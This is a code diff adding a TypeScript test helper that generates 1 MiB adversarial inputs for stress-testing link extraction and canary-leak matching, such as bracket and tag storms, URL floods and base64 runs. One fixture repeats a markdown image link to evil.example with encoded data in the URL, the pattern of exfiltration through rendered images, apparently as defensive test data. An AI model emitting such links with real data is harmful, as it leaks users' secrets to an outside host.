@@ -48,3 +48,31 @@ export function adversarialInputs(bytes = 1024 * 1024): Array<{ name: string; te
     { name: 'whitespace 1MiB', text: ' '.repeat(bytes - 1) + 'x' },
   ];
 }
+
+/** 1 MiB inputs aimed at link extraction and canary matching (bracket storms, tag storms, URL floods). */
+export function linkHostileInputs(bytes = 1024 * 1024): Array<{ name: string; text: string }> {
+  const rep = (s: string): string => s.repeat(Math.ceil(bytes / s.length)).slice(0, bytes);
+  const urls: string[] = [];
+  for (let i = 0, size = 0; size < bytes; i++) {
+    const u = `https://h${i}.example.org/${i.toString(36)}?q=${Buffer.from(String(i * 7919)).toString('base64')} `;
+    urls.push(u);
+    size += u.length;
+  }
+  return [
+    { name: '![ x1MiB', text: rep('![') },
+    { name: '[[[[ x1MiB', text: rep('[[[[') },
+    { name: ']]]] x1MiB', text: rep(']]]]') },
+    { name: '[]( x1MiB', text: rep('[](') },
+    { name: '<img src= x1MiB', text: rep('<img src=') },
+    { name: 'http://a.b/? x1MiB', text: rep('http://a.b/?') },
+    { name: 'url(" x1MiB', text: rep('url("') },
+    { name: 'reference definitions 1MiB', text: rep('[x]: http://a.b/\n') },
+    { name: 'random URLs 1MiB', text: urls.join('').slice(0, bytes) },
+    {
+      name: 'markdown images with data 1MiB',
+      text: rep('![x](https://evil.example/a.png?d=QUJDREVGR0hJSktMTU5PUFFSU1RVVldY) '),
+    },
+    { name: 'spaced canary prefix 1MiB', text: rep('r m p ') },
+    { name: 'base64-ish 1MiB', text: rep('QUJDREVGR0hJSktMTU5P') },
+  ];
+}
